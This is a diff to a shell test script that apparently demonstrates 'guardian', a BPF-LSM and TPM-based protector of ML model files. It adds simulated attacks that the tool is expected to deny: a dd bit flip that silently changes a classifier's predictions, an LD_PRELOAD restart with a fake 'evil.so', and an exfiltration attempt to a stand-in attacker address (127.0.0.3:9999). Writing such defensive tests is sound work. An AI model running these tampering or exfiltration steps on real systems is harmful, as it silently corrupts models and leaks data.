@@ -92,12 +92,41 @@ lsm="$(cat /sys/kernel/security/lsm 2>/dev/null)"
 case ",$lsm," in *,bpf,*) r=0 ;; *) r=1 ;; esac
 check bpf-lsm-active $r "active LSMs: ${lsm:-unreadable}"
 
+# --- the workload, and why it needs guarding ----------------------------------
+# A real classifier (examples/inference) served by a real service. First a
+# control run with guardian not running, on a copy of the model: flipping
+# one documented bit (model/attack.json) changes a prediction, silently.
+INFER=/usr/bin/inference-service
+CLASSIFIER=/opt/models/classifier.onnx
+expected="$(tr '\n' ' ' </opt/inference/expected.txt)"
+predict() {
+    # predict MODEL [ARGS...]: the classes the service answers, in order.
+    m=$1
+    shift
+    "$INFER" --model "$m" "$@" </opt/inference/inputs.jsonl 2>/tmp/infer.err \
+        | sed -n 's/.*"class":\([0-9]*\).*/\1/p' | tr '\n' ' '
+}
+printf '\277' >/tmp/bit
+say "control run (no guardian): the inference service on a copy of the model"
+cp "$CLASSIFIER" /tmp/control.onnx
+p0="$(predict /tmp/control.onnx)"
+dd if=/tmp/bit of=/tmp/control.onnx bs=1 seek=5499 count=1 conv=notrunc 2>/dev/null
+p1="$(predict /tmp/control.onnx)"
+say "  expected classes:            $expected"
+say "  predictions:                 $p0"
+say "  after flipping bit 7 of byte 5499 (one weight changes sign): $p1"
+[ "$p0" = "$expected" ] && [ -n "$p1" ] && [ "$p1" != "$expected" ]
+check control-flip-changes-predictions $? "expected [$expected] before [$p0] after [$p1]"
+
 # --- measured boot of the model ----------------------------------------------
 say "measuring the models into the TPM (guardian measure, the boot step)"
 guardian measure --config /etc/guardian/guardian.toml >/tmp/measure.out 2>/tmp/measure.err
 rc=$?
 sed 's/^/demo:   /' /tmp/measure.err
 check measure-boot $rc "exit $rc: $(tail -n 1 /tmp/measure.err)"
+# As systemd orders it (guardian-measure.service before the service): the
+# inference service starts only on a successful measurement.
+measure_rc=$rc
 # The PCR as the kernel's TPM driver reads it (sysfs), against guardian's
 # replay of its measurement log.
 pcr="$(tr 'A-F' 'a-f' </sys/class/tpm/tpm0/pcr-sha256/14 2>/dev/null)"
@@ -146,6 +175,49 @@ check guardian-enforce $? "$(guardian status | sed -n 's/^mode: //p')"
 
 before="$(digest "$MODEL")"
 say "model $MODEL sha256 $before"
+
+# --- the guarded run -----------------------------------------------------------
+cp /bin/busybox /tmp/evil.so
+if [ "$measure_rc" -eq 0 ]; then
+    say "guarded run: measurement passed, the inference service starts"
+    pg="$(predict "$CLASSIFIER")"
+else
+    say "guarded run: measurement FAILED, the inference service is not started"
+    pg="not started"
+fi
+say "  predictions: $pg"
+[ "$pg" = "$expected" ]
+check guarded-predictions $? "expected [$expected] got [$pg]"
+cdigest="$(digest "$CLASSIFIER")"
+say "the attacker flips the same bit in the protected model"
+sh -c "echo \$\$ > /tmp/pid; exec dd if=/tmp/bit of=$CLASSIFIER bs=1 seek=5499 count=1 conv=notrunc" 2>/tmp/err
+rc=$?
+pid="$(cat /tmp/pid)"
+say "  -> exit status $rc: $(head -n 1 /tmp/err)"
+[ "$rc" -ne 0 ] && grep -q "Operation not permitted" /tmp/err && [ "$(digest "$CLASSIFIER")" = "$cdigest" ]
+check flip-denied $? "pid $pid exit $rc, classifier sha256 $(digest "$CLASSIFIER" | cut -c1-16)..."
+wait_event "$pid" deny file_write_open
+check flip-denied-event $? "$(events_of "$pid" | head -n 1)"
+say "  guardian: $(events_of "$pid" | head -n 1)"
+pa="$(predict "$CLASSIFIER")"
+say "  predictions after the attempt: $pa"
+[ "$pa" = "$expected" ]
+check predictions-unchanged $? "expected [$expected] got [$pa]"
+say "the attacker restarts the service with LD_PRELOAD"
+after="$(digest "$MODEL")"
+attack service-preload-restart exec_preload env LD_PRELOAD=/tmp/evil.so "$INFER" --model "$CLASSIFIER"
+say "the service is told to send its results to the attacker (127.0.0.3:9999)"
+sh -c 'echo $$ > /tmp/pid; exec "$@"' x "$INFER" --model "$CLASSIFIER" --report-to 127.0.0.3:9999 \
+    </opt/inference/inputs.jsonl >/tmp/out 2>/tmp/err
+rc=$?
+pid="$(cat /tmp/pid)"
+say "  -> $(grep 'report' /tmp/err | head -n 1)"
+pe="$(sed -n 's/.*"class":\([0-9]*\).*/\1/p' /tmp/out | tr '\n' ' ')"
+[ "$rc" -eq 0 ] && grep -q "cannot report to 127.0.0.3:9999: Operation not permitted" /tmp/err && [ "$pe" = "$expected" ]
+check service-exfiltration $? "exit $rc; predictions [$pe]; $(grep report /tmp/err | head -n 1)"
+wait_event "$pid" deny connect
+check service-exfiltration-event $? "$(events_of "$pid" | head -n 1)"
+say "  guardian: $(events_of "$pid" | head -n 1)"
 
 # --- attack 1: append to the model ----------------------------------------------
 say "attacker (pid below) appends to the model: echo tamper >> $MODEL"
@@ -201,14 +273,14 @@ cat "$MODEL" >/dev/null
 check read-allowed $? "a plain read of the model still works"
 
 # --- nothing silent: the counters match what happened ----------------------
-# Three denials, one allowed write, nothing dropped.
+# Four denials (the bit flip, then three), one allowed write, nothing dropped.
 n=0
-until grep -q '"denied": 3,' /run/guardian/status.json && grep -q '"allowed": 1,' /run/guardian/status.json; do
+until grep -q '"denied": 4,' /run/guardian/status.json && grep -q '"allowed": 1,' /run/guardian/status.json; do
     [ "$n" -ge 50 ] && break
     sleep 0.1
     n=$((n + 1))
 done
-grep -q '"denied": 3,' /run/guardian/status.json && grep -q '"allowed": 1,' /run/guardian/status.json \
+grep -q '"denied": 4,' /run/guardian/status.json && grep -q '"allowed": 1,' /run/guardian/status.json \
     && grep -qE '"ringbuf_drops": 0,?$' /run/guardian/status.json
 check status-counters $? "$(grep -E '"(denied|allowed|ringbuf_drops|events_written)"' /run/guardian/status.json | tr -d ' \n')"
 
